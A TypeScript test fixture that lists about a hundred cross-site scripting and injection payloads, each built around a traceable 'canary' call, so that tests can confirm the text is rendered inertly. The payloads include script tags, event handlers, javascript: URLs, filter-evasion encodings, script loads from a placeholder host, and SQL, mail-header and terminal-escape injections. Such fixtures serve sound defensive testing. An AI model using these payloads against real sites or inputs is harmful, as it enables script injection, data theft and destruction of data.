/**
 * What people have written where a name was asked for, so that a page, a feed reader or a mail program runs it. `CALL`
 * stands for a call that a test notices; every one has it, so a test can also see that the whole is said as text.
 */
const WRITTEN: readonly string[] = [
  // Elements that run.
  '<script>CALL</script>',
  '<ScRiPt >CALL</sCrIpT >',
  '<script/x>CALL</script>',
  '<scr<script>ipt>CALL</scr</script>ipt>',
  '<<script>CALL//<</script>',
  '<script src="//canary.invalid/a.js"></script>CALL',
  '<script src=data:text/javascript,CALL></script>',
  '<script type=module>import "data:text/javascript,CALL"</script>',
  '</title><script>CALL</script>',
  '</textarea><script>CALL</script>',
  '</script><script>CALL</script>',
  '</style></head><body onload=CALL>',
  '<noscript><p title="</noscript><img src=x onerror=CALL>">',
  // Event handlers.
  '<img src=x onerror=CALL>',
  '<img src=x:x onerror="CALL"//',
  '<img/src/onerror=CALL>',
  '<img src=`x`onerror=CALL>',
  '<img src=x\fonerror=CALL>',
  '<body onload=CALL>',
  '<details open ontoggle=CALL>',
  '<input autofocus onfocus=CALL>',
  '<select autofocus onfocus=CALL>',
  '<video><source onerror=CALL>',
  '<audio src=x onerror=CALL>',
  '<marquee onstart=CALL>',
  '<div style=animation-name:x onanimationstart=CALL>',
  '<x contenteditable autofocus onfocus=CALL tabindex=1>',
  // Out of an attribute.
  '"><img src=x onerror=CALL>',
  `'><img src=x onerror=CALL>`,
  '" autofocus onfocus="CALL',
  `' autofocus onfocus='CALL`,
  '` onmouseover=CALL x=`',
  '" style="animation-name:x" onanimationstart="CALL',
  '/><svg/onload=CALL>',
  // Addresses that run.
  'javascript:CALL',
  'JaVaScRiPt:CALL',
  'java\tscript:CALL',
  '\u0001javascript:CALL',
  'javascript&colon;CALL',
  'data:text/html,<script>CALL</script>',
  'vbscript:CALL',
  '<a href="javascript:CALL" autofocus>CALL</a>',
  '<a href=" &#14; javascript:CALL">CALL</a>',
  '<form action=javascript:CALL><button autofocus>CALL</form>',
  '<button formaction=javascript:CALL>CALL',
  '<iframe src=javascript:CALL></iframe>',
  '<iframe srcdoc="<script>parent.CALL</script>"></iframe>',
  '<object data=javascript:CALL></object>',
  '<embed src=javascript:CALL>',
  '<base href="//canary.invalid/">CALL',
  '<meta http-equiv=refresh content="0;url=javascript:CALL">',
  '<link rel=stylesheet href=//canary.invalid/a.css>CALL',
  '<link rel=import href=data:text/html,<script>CALL</script>>',
  '<style>@import "//canary.invalid/b.css";</style>CALL',
  '<p style="background:url(//canary.invalid/c)">CALL</p>',
  '<img src=//canary.invalid/d.png>CALL',
  // Other languages within HTML, and what parsers make of them when it is read again.
  '<svg><script>CALL</script></svg>',
  '<svg onload=CALL>',
  '<svg><animate onbegin=CALL attributeName=x dur=1s>',
  '<svg><a xlink:href=javascript:CALL><text x=9 y=9>CALL</text></a></svg>',
  '<svg><style><img src=x onerror=CALL></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=CALL>',
  '<math href=javascript:CALL>CALL</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=CALL>',
  '<template><img src=x onerror=CALL></template>',
  '<![CDATA[<script>CALL</script>]]>',
  ']]><script>CALL</script><![CDATA[',
  '<!--><img src=x onerror=CALL>-->',
  '--><script>CALL</script><!--',
  '<?xml-stylesheet href="javascript:CALL"?>CALL',
  '<!DOCTYPE x [<!ENTITY e "CALL">]>&e;',
  '<![if IE]><script>CALL</script><![endif]>',
  // Written so that a filter does not see it.
  '&lt;script&gt;CALL&lt;/script&gt;',
  '&#60;script&#62;CALL&#60;/script&#62;',
  '&amp;lt;img src=x onerror=CALL&amp;gt;',
  '+ADw-script+AD4-CALL+ADw-/script+AD4-',
  '\u00bcscript\u00beCALL\u00bc/script\u00be',
  '＜script＞CALL＜/script＞',
  '<scr\u0000ipt>CALL</scr\u0000ipt>',
  '<scr\u200bipt>CALL</script>',
  '\u202e<script>CALL</script>\u202c',
  '%3Cscript%3ECALL%3C/script%3E',
  '\\u003cscript\\u003eCALL\\u003c/script\\u003e',
  // For templates, scripts, JSON, headers, terminals and other marked-up text.
  '$' + '{CALL}',
  '{{constructor.constructor("CALL")()}}',
  '";CALL;//',
  `');CALL;//`,
  '"}],"x":[{"a":"</script><script>CALL</script>',
  'x\r\nX-Canary: CALL\r\n\r\n<script>CALL</script>',
  'x\nBcc: canary@canary.invalid\nCALL',
  'x\u2028CALL\u2029',
  '\u001b]8;;javascript:CALL\u0007CALL\u001b]8;;\u0007\u001b[31m',
  '[CALL](javascript:CALL)',
  '![x](//canary.invalid/e.png)CALL',
  '<https://canary.invalid/f|CALL>',
  "x' OR 1=1; DROP TABLE people; -- CALL",
  '\ud800<script>CALL</script>',
]

export interface Payload {
  number: number
  text: string
  /** The call that must never happen, and be read wherever the text is. */
  call: string
}

export const PAYLOADS: readonly Payload[] = WRITTEN.map((written, number) => {
  const call = `canary(${number})`
  return { number, text: written.replaceAll('CALL', call), call }
})

/** All of them in texts of at most so many characters each. */
export function payloadsWithin(maxLength: number): { text: string; calls: string[] }[] {
  const all: { text: string; calls: string[] }[] = []
  for (const { text, call } of PAYLOADS) {
    const last = all.at(-1)
    if (last && last.text.length + text.length < maxLength) {
      last.text += ` ${text}`
      last.calls.push(call)
    } else all.push({ text, calls: [call] })
  }
  return all
}
